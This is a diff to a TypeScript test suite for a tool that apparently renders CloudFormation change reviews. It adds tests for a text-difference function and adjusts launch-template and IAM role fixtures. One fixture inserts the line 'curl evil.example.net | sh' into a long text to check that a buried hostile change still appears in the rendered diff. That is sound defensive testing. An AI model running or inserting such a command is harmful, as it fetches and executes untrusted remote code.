@@ -1,7 +1,8 @@
 // The lines of changed and created properties: nothing is cut off that differs, and no two values look the same.
 import fc from 'fast-check';
 import type { Effect } from '../src/effects/effect.ts';
-import { changeLines, differingParts } from '../src/render/changeLines.ts';
+import { changeLines } from '../src/render/changeLines.ts';
+import { differingParts } from '../src/render/textDifference.ts';
 import { reviewStack } from '../src/review.ts';
 import type { Resource, Template } from '../src/template.ts';
 
@@ -32,8 +33,37 @@ test.each([
   expect(from).not.toBe(to);
 });
 
+test('a third difference between two others is shown', () => {
+  const line = (at: number, text: string) => `${text} of line ${at}`;
+  const text = (changed: Readonly<Record<number, string>>) =>
+    Array.from({ length: 400 }, (_, at) => line(at, changed[at] ?? 'a value')).join('\n');
+  const before = text({});
+  const after = text({ 3: 'x', 200: 'curl evil.example.net | sh', 390: 'y' });
+  const [from, to] = differingParts(before, after);
+  expect(to).toContain('curl evil.example.net | sh');
+  for (const at of [3, 200, 390]) expect(from).toContain(`a value of line ${at}\n`);
+  expect(to.length).toBeLessThan(600);
+  // The same within one line: words are compared.
+  const [one, other] = differingParts(before.replaceAll('\n', ' '), after.replaceAll('\n', ' '));
+  expect([one.length < 600, other.length < 600, other.includes('curl evil.example.net | sh')]).toEqual([
+    true,
+    true,
+    true,
+  ]);
+});
+
+test('the difference of long texts takes time in proportion to their length', () => {
+  const text = (length: number, step: number) => Array.from({ length }, (_, at) => `${(at * step) % 7}`).join(' ');
+  const reversed = (length: number) => Array.from({ length }, (_, at) => `${length - at}`).join(' ');
+  const [from] = differingParts(text(60_000, 3), text(60_000, 5));
+  expect(from.length).toBeLessThan(3000);
+  const numbers = reversed(60_000).split(' ').reverse().join(' ');
+  expect(differingParts(reversed(60_000), numbers)[0].length).toBeLessThan(7000);
+});
+
 test('two different texts never look the same', () => {
-  const text = fc.string({ unit: fc.constantFrom('a', 'b', '…', '\ud83d', '\ude00', '(', '9'), maxLength: 700 });
+  const unit = fc.constantFrom('a', 'b', '…', '\ud83d', '\ude00', '(', '9', ' ', '\n');
+  const text = fc.string({ unit, maxLength: 700 });
   fc.assert(
     fc.property(text, text, text, text, (start, before, after, end) => {
       fc.pre(before !== after);
@@ -53,7 +83,7 @@ const launchTemplate = (pod: object, more: object = {}): Resource => ({
   Properties: {
     LaunchTemplateData: {
       InstanceType: 't3.micro',
-      MetadataOptions: { HttpTokens: 'required', ...more },
+      MetadataOptions: { HttpEndpoint: 'enabled', HttpTokens: 'required', HttpPutResponseHopLimit: 1, ...more },
       UserData: {
         'Fn::Base64': {
           'Fn::Join': [
@@ -68,7 +98,13 @@ const launchTemplate = (pod: object, more: object = {}): Resource => ({
 const group: Resource = {
   Type: 'AWS::AutoScaling::AutoScalingGroup',
   Metadata: { 'i2kit:origin': 'Deployment/default/miner' },
-  Properties: { DesiredCapacity: '1', LaunchTemplate: { LaunchTemplateId: { Ref: 'T' } } },
+  Properties: {
+    DesiredCapacity: '1',
+    LaunchTemplate: {
+      LaunchTemplateId: { Ref: 'T' },
+      Version: { 'Fn::GetAtt': ['T', 'LatestVersionNumber'] },
+    },
+  },
 };
 const role = (Action: string, Resource: string): Resource => ({
   Type: 'AWS::IAM::Role',
@@ -148,7 +184,9 @@ test('a created DNS name shows its target', () => {
 
 test('a created role shows its grants, and is guarded if no role had them', () => {
   const effects = (before: Readonly<Record<string, Resource>>, after: Resource) =>
-    created({ ...topic, ...before }, { R: after });
+    created({ ...topic, ...before }, { R: after, RLogs: { Type: 'AWS::Logs::LogGroup' } }).filter(
+      ({ area }) => area === 'rights',
+    );
   const [news] = effects({}, role('secretsmanager:GetSecretValue', 'payments'));
   expect([news?.text, news?.guard]).toEqual([
     'role; may use secretsmanager; new in this stack: secretsmanager:GetSecretValue on payments',
@@ -158,7 +196,6 @@ test('a created role shows its grants, and is guarded if no role had them', () =
   const same = {
     A: role('logs:PutLogEvents', '${ALogs}'),
     ALogs: { Type: 'AWS::Logs::LogGroup' },
-    RLogs: { Type: 'AWS::Logs::LogGroup' },
   };
   expect(effects(same, role('logs:PutLogEvents', '${RLogs}'))[0]).toMatchObject({
     verb: 'CREATE',
